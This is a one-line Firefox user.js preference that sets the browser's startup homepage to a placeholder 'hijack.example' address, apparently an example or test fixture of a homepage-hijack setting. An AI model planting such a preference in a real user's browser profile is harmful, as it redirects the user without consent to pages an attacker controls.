user_pref("browser.startup.homepage", "https://hijack.example/?from=\"user.js\"");
